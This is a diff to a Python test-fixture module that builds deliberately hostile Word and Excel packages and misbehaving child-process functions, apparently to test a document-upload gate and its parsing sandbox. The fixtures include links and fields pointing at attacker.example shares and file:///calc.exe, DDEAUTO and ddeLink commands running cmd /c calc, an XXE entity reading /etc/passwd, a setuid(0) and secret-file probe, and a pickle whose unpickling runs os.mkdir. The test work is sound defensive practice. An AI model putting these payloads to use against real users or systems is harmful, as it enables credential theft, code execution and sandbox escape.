@@ -2,14 +2,18 @@
 
 Every builder is a pure function returning bytes. The packages are written by hand (a few parts
 with `zipfile`, or raw zip records where the attack lives in the zip structure itself), so each
-file contains exactly the one thing under test. The last section holds parsing functions that
-misbehave on purpose, for `parse_with_limits`; they live here, in a module without test
-dependencies, because the child process imports them by name.
+file contains exactly the one thing under test. The last sections hold parsing functions that
+misbehave on purpose, for `parse_with_limits`, and probes that report what the parsing child
+sees of the platform; they live here, in a module without test dependencies, because the child
+process imports them by name.
 """
 
 from __future__ import annotations
 
+import os
+import pickle
 import struct
+import sys
 import time
 import warnings
 import zipfile
@@ -197,23 +201,80 @@ CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
 WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
-def with_chart() -> bytes:
-    """A chart whose data lives in an embedded workbook, as Word stores every chart."""
+SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+WORKBOOK_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+EXTERNAL_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+
+
+def workbook(
+    *,
+    sheet: bytes | None = None,
+    sheet_rels: Iterable[Rel] = (),
+    workbook_rels: Iterable[Rel] = (),
+    overrides: Mapping[str, str] | None = None,
+    defaults: Mapping[str, str] | None = None,
+    extra: Mapping[str, bytes] | None = None,
+) -> bytes:
+    """A minimal workbook (.xlsx) as Excel writes one for a chart's data: one sheet, its cells."""
+    if sheet is None:
+        sheet = (
+            DECLARATION + f'<worksheet xmlns="{SHEET_NS}"><sheetData>'
+            '<row r="1"><c r="A1" t="inlineStr"><is><t>Delegations</t></is></c>'
+            '<c r="B1"><v>35</v></c></row></sheetData></worksheet>'
+        ).encode()
+    book = (
+        DECLARATION + f'<workbook xmlns="{SHEET_NS}" xmlns:r="{R_NS}"><sheets>'
+        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
+    ).encode()
+    types = {
+        "/xl/workbook.xml": WORKBOOK_MAIN_TYPE,
+        "/xl/worksheets/sheet1.xml": WORKSHEET_TYPE,
+        **(overrides or {}),
+    }
+    parts = {
+        "[Content_Types].xml": content_types(defaults=defaults).replace(
+            f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/>'.encode(),
+            "".join(
+                f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in types.items()
+            ).encode(),
+        ),
+        "_rels/.rels": relationships([Rel("rId1", REL + "officeDocument", "xl/workbook.xml")]),
+        "xl/workbook.xml": book,
+        "xl/_rels/workbook.xml.rels": relationships(
+            [Rel("rId1", REL + "worksheet", "worksheets/sheet1.xml"), *workbook_rels]
+        ),
+        "xl/worksheets/sheet1.xml": sheet,
+        **(extra or {}),
+    }
+    sheet_rels = list(sheet_rels)
+    if sheet_rels:
+        parts["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(sheet_rels)
+    return zip_parts(parts)
+
+
+def chart_parts(book: bytes, folder: str = "word") -> dict[str, bytes]:
+    """A chart part and its relationship to `book`, its data, under `folder`."""
     chart = (
         DECLARATION + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/'
         f'chart" xmlns:r="{R_NS}"><c:externalData r:id="rId1"/></c:chartSpace>'
     ).encode()
+    return {
+        f"{folder}/charts/chart1.xml": chart,
+        f"{folder}/charts/_rels/chart1.xml.rels": relationships(
+            [Rel("rId1", REL + "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")]
+        ),
+        f"{folder}/embeddings/Microsoft_Excel_Worksheet.xlsx": book,
+    }
+
+
+def with_chart(book: bytes | None = None) -> bytes:
+    """A chart whose data lives in an embedded workbook, as Word stores every chart."""
     return minimal_docx(
         document_rels=[Rel("rId9", REL + "chart", "charts/chart1.xml")],
         overrides={"/word/charts/chart1.xml": CHART_TYPE},
         defaults={"xlsx": WORKBOOK_TYPE},
-        extra={
-            "word/charts/chart1.xml": chart,
-            "word/charts/_rels/chart1.xml.rels": relationships(
-                [Rel("rId1", REL + "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")]
-            ),
-            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_parts({"x.xml": b"<x/>"}),
-        },
+        extra=chart_parts(workbook() if book is None else book),
     )
 
 
@@ -609,6 +670,289 @@ def excel_renamed() -> bytes:
 
 
 # ---------------------------------------------------------------------------------------------
+# Links and fields (issue #9): only web and e-mail links; no field that fetches outside content
+
+FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
+HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+COMMENTS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
+SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
+
+
+def linked(target: str) -> bytes:
+    """A hyperlink in the text to `target` (XML-escaped here), as Word writes one."""
+    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>the annex</w:t></w:r></w:hyperlink></w:p>'
+    return minimal_docx(body, document_rels=[Rel("rId5", REL + "hyperlink", target, True)])
+
+
+def linked_from(part: str, content_type: str, relationship: str, root: str, target: str) -> bytes:
+    """A hyperlink to `target` in another part of the document (a footnote, a header…)."""
+    xml = (
+        DECLARATION + f'<w:{root} xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:p><w:hyperlink r:id="rId1">'
+        f"<w:r><w:t>see</w:t></w:r></w:hyperlink></w:p></w:{root}>"
+    ).encode()
+    folder, name = part.rsplit("/", 1)
+    return minimal_docx(
+        document_rels=[Rel("rId8", REL + relationship, name)],
+        overrides={f"/{part}": content_type},
+        extra={
+            part: xml,
+            f"{folder}/_rels/{name}.rels": relationships(
+                [Rel("rId1", REL + "hyperlink", target, True)]
+            ),
+        },
+    )
+
+
+def link_in_footnote(target: str = "file:///C:/Windows/System32/calc.exe") -> bytes:
+    return linked_from("word/footnotes.xml", FOOTNOTES_TYPE, "footnotes", "footnotes", target)
+
+
+def link_in_header(target: str = "\\\\attacker.example\\share\\x.docx") -> bytes:
+    return linked_from("word/header1.xml", HEADER_TYPE, "header", "hdr", target)
+
+
+def link_in_comment(target: str = "javascript:alert(document.domain)") -> bytes:
+    return linked_from("word/comments.xml", COMMENTS_TYPE, "comments", "comments", target)
+
+
+def internal_mode_link() -> bytes:
+    """A hyperlink with no TargetMode to a path: a file next to the document."""
+    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>annex</w:t></w:r></w:hyperlink></w:p>'
+    return minimal_docx(body, document_rels=[Rel("rId5", REL + "hyperlink", "Annex.docm")])
+
+
+def complex_field(*instructions: str, result: str = "1") -> str:
+    """A field as Word writes it: `begin`, the instruction in one run per piece (Word splits
+    them where it likes), `separate`, the result, `end`."""
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(
+            f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+            for piece in instructions
+        )
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + f"<w:r><w:t>{result}</w:t></w:r>"
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def with_field(*instructions: str) -> bytes:
+    return minimal_docx(f"<w:p>{complex_field(*instructions)}</w:p>")
+
+
+def with_simple_field(instruction: str) -> bytes:
+    """`w:fldSimple` (`instruction` XML-escaped here)."""
+    return minimal_docx(
+        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
+    )
+
+
+def field_nested_in_if() -> bytes:
+    """{ IF 1 = 1 "{ INCLUDETEXT … }" }: the outer field is harmless, the inner one is not."""
+    inner = complex_field(' INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\x.docx" ')
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
+        + inner
+        + '<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return minimal_docx(body)
+
+
+def field_with_nested(*pieces: str) -> bytes:
+    """A field whose code mixes instruction text and nested fields: each piece is instruction
+    text, or, written `{…}`, a nested field with that code (and a result of its own)."""
+    runs = []
+    for piece in pieces:
+        if piece.startswith("{") and piece.endswith("}"):
+            runs.append(complex_field(piece[1:-1], result="x"))
+        else:
+            runs.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(runs)
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return minimal_docx(body)
+
+
+def field_in_tracked_deletion() -> bytes:
+    """The field's code is deleted with Track Changes: rejecting the change brings it back."""
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:del w:id="1" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
+        '<w:delInstrText xml:space="preserve"> DDEAUTO cmd "/c calc" </w:delInstrText>'
+        "</w:r></w:del>"
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return minimal_docx(body)
+
+
+def field_hidden_by_a_tracked_insertion() -> bytes:
+    """The code `PAGE` deleted and `INCLUDEPICTURE …` inserted with Track Changes: all the text
+    together reads `PAGE INCLUDEPICTURE …`, a harmless field to a reader that ignores the
+    changes, but accepting them makes the field fetch a picture."""
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:del w:id="1" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
+        '<w:delInstrText xml:space="preserve"> PAGE </w:delInstrText></w:r></w:del>'
+        '<w:ins w:id="2" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
+        '<w:instrText xml:space="preserve">INCLUDEPICTURE "http://attacker.example/p.png" \\d'
+        "</w:instrText></w:r></w:ins>"
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return minimal_docx(body)
+
+
+def field_in_header() -> bytes:
+    header = (
+        DECLARATION
+        + f'<w:hdr xmlns:w="{W_NS}"><w:p>'
+        + complex_field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\p.png" \\d ')
+        + "</w:p></w:hdr>"
+    ).encode()
+    return minimal_docx(
+        document_rels=[Rel("rId8", REL + "header", "header1.xml")],
+        overrides={"/word/header1.xml": HEADER_TYPE},
+        extra={"word/header1.xml": header},
+    )
+
+
+def mail_merge() -> bytes:
+    settings = (
+        DECLARATION + f'<w:settings xmlns:w="{W_NS}"><w:mailMerge>'
+        '<w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\'
+        'attacker.example\\s\\d.xlsx"/><w:query w:val="SELECT * FROM `Sheet1$`"/>'
+        "</w:mailMerge></w:settings>"
+    ).encode()
+    return minimal_docx(
+        document_rels=[Rel("rId3", REL + "settings", "settings.xml")],
+        overrides={"/word/settings.xml": SETTINGS_TYPE},
+        extra={"word/settings.xml": settings},
+    )
+
+
+def vml_shape(attributes: str) -> bytes:
+    body = (
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
+        'xmlns:o="urn:schemas-microsoft-com:office:office" id="s1" style="width:10pt;height:10pt"'
+        f" {attributes}/></w:pict></w:r></w:p>"
+    )
+    return minimal_docx(body)
+
+
+def vml_picture_from_a_share() -> bytes:
+    body = (
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1">'
+        '<v:imagedata src="\\\\attacker.example\\s\\p.png"/></v:shape></w:pict></w:r></w:p>'
+    )
+    return minimal_docx(body)
+
+
+# ---------------------------------------------------------------------------------------------
+# Embedded packages: a chart's workbook goes through the whole gate
+
+
+def workbook_with_macros() -> bytes:
+    return workbook(
+        overrides={"/xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"},
+        workbook_rels=[Rel("rId9", MS_REL + "vbaProject", "vbaProject.bin")],
+        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
+    )
+
+
+def external_link_part(link: str) -> bytes:
+    return (DECLARATION + f'<externalLink xmlns="{SHEET_NS}" xmlns:r="{R_NS}">{link}'
+            "</externalLink>").encode()  # fmt: skip
+
+
+def workbook_with_external_link(*, typed: bool = True) -> bytes:
+    """A link to another workbook on a share, whose cells Excel reads when the data is edited."""
+    return workbook(
+        overrides={"/xl/externalLinks/externalLink1.xml": EXTERNAL_LINK_TYPE} if typed else None,
+        workbook_rels=[Rel("rId7", REL + "externalLink", "externalLinks/externalLink1.xml")],
+        extra={
+            "xl/externalLinks/externalLink1.xml": external_link_part('<externalBook r:id="rId1"/>'),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
+                [
+                    Rel(
+                        "rId1",
+                        REL + "externalLinkPath",
+                        "file:///\\\\attacker.example\\s\\book.xlsx",
+                        True,
+                    )
+                ]
+            ),
+        },
+    )
+
+
+def workbook_with_dde_link() -> bytes:
+    """Excel's DDE attack: a `ddeLink` that starts a program, in a part of no declared type and
+    with no relationship that says what it is."""
+    return workbook(
+        extra={
+            "xl/links.xml": external_link_part(
+                '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
+                "</ddeItems></ddeLink>"
+            )
+        }
+    )
+
+
+def workbook_with_link_to_a_share() -> bytes:
+    return workbook(sheet_rels=[Rel("rId1", REL + "hyperlink", "\\\\attacker.example\\s", True)])
+
+
+def workbook_with_doctype() -> bytes:
+    sheet = (
+        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+        f'<worksheet xmlns="{SHEET_NS}"><sheetData/></worksheet>'
+    ).encode()
+    return workbook(sheet=sheet)
+
+
+def word_macros_as_workbook() -> bytes:
+    """A macro-enabled Word document where the chart's workbook should be."""
+    return macro_enabled_renamed()
+
+
+def chart_with_macros_elsewhere() -> bytes:
+    """The chart's workbook, with macros, outside any `embeddings` folder."""
+    parts = chart_parts(workbook_with_macros())
+    book = parts.pop("word/embeddings/Microsoft_Excel_Worksheet.xlsx")
+    parts["word/media/data.xlsx"] = book
+    parts["word/charts/_rels/chart1.xml.rels"] = relationships(
+        [Rel("rId1", REL + "package", "../media/data.xlsx")]
+    )
+    return minimal_docx(
+        document_rels=[Rel("rId9", REL + "chart", "charts/chart1.xml")],
+        overrides={"/word/charts/chart1.xml": CHART_TYPE},
+        defaults={"xlsx": WORKBOOK_TYPE},
+        extra=parts,
+    )
+
+
+def workbook_with_a_chart(book: bytes) -> bytes:
+    """A workbook whose own chart keeps its data in `book`: one more level of embedding."""
+    return workbook(
+        overrides={"/xl/charts/chart1.xml": CHART_TYPE},
+        defaults={"xlsx": WORKBOOK_TYPE},
+        extra=chart_parts(book, folder="xl"),
+    )
+
+
+def charts_nested_too_deep() -> bytes:
+    return with_chart(workbook_with_a_chart(workbook_with_a_chart(workbook())))
+
+
+# ---------------------------------------------------------------------------------------------
 # Parsing functions that misbehave, for `parse_with_limits`
 
 
@@ -641,3 +985,100 @@ def paragraph_texts(data: bytes) -> list[str]:
 
 def count_with_offset(data: bytes, offset: int, *, scale: int = 1) -> int:
     return (len(data) + offset) * scale
+
+
+def raise_a_bug(data: bytes) -> None:
+    """A bug of the engine, whose message quotes the document (as a KeyError of a style name
+    would)."""
+    raise AttributeError("'NoneType' has no attribute 'text' near «Article 7, confidential»")
+
+
+def return_a_tuple(data: bytes) -> tuple[int, int]:
+    return (1, 2)
+
+
+# ---------------------------------------------------------------------------------------------
+# What the parsing child sees of the platform (issue #9): probes run inside it
+
+
+def sandbox_probe(data: bytes, secret_file: str, canary: str) -> dict[str, object]:
+    """Who and where the child is, what it holds open, what its environment says, and whether it
+    can read a file only root may read: all of it JSON, as the child's answer must be."""
+    import ctypes
+    import stat
+
+    listed = [int(name) for name in os.listdir("/proc/self/fd")]
+    descriptors = {}
+    for fd in listed:
+        try:
+            mode = os.fstat(fd).st_mode
+        except OSError:
+            continue  # the listing's own descriptor, closed by now
+        descriptors[str(fd)] = (
+            "pipe" if stat.S_ISFIFO(mode) else "character device" if stat.S_ISCHR(mode) else "other"
+        )
+    try:
+        with open(secret_file, "rb") as secret:
+            secret.read()
+        read_the_secret = True
+    except OSError:
+        read_the_secret = False
+    try:
+        os.setuid(0)
+        became_root = os.getuid() == 0
+    except OSError:
+        became_root = False
+    with open("/proc/self/stat", "rb") as file:
+        fields = file.read().rsplit(b")", 1)[1].split()
+    start, end = int(fields[47]), int(fields[48])
+    block = ctypes.string_at(start, end - start) if 0 < start < end else b""
+    with open("/proc/self/status") as file:
+        status = dict(line.split(":", 1) for line in file.read().splitlines() if ":" in line)
+    return {
+        "uid": os.getuid(),
+        "euid": os.geteuid(),
+        "gid": os.getgid(),
+        "groups": os.getgroups(),
+        "cwd": os.getcwd(),
+        "cwd_entries": os.listdir("."),
+        "environment": dict(os.environ),
+        "descriptors": descriptors,
+        "read_the_secret": read_the_secret,
+        "became_root": became_root,
+        "canary_in_environment_block": canary.encode() in block,
+        "environment_block_is_blank": not block.strip(b"\x00"),
+        "no_new_privileges": status.get("NoNewPrivs", "").strip() == "1",
+        "relative_import_paths": [entry for entry in sys.path if not os.path.isabs(entry)],
+    }
+
+
+class _Planted:
+    """Unpickling this calls `os.mkdir(path)`: what a hostile child could send the parent if the
+    parent unpickled its answer."""
+
+    def __init__(self, path: str) -> None:
+        self.path = path
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (os.mkdir, (self.path,))
+
+
+def planted_pickle(path: str) -> bytes:
+    return pickle.dumps(("ok", _Planted(path)))
+
+
+def answer_with_a_pickle(data: bytes, path: str, framed: bool) -> None:
+    """A child taken over: it writes a pickle on its answer's descriptor (the only one it holds
+    besides the standard ones), bare or framed as `multiprocessing`'s `Connection.send` frames
+    it, and ends before the platform's code can answer."""
+    payload = planted_pickle(path)
+    if framed:
+        payload = struct.pack("!i", len(payload)) + payload
+    for name in os.listdir("/proc/self/fd"):
+        fd = int(name)
+        if fd > 2:
+            try:
+                os.write(fd, payload)
+            except OSError:
+                continue
+    os._exit(0)
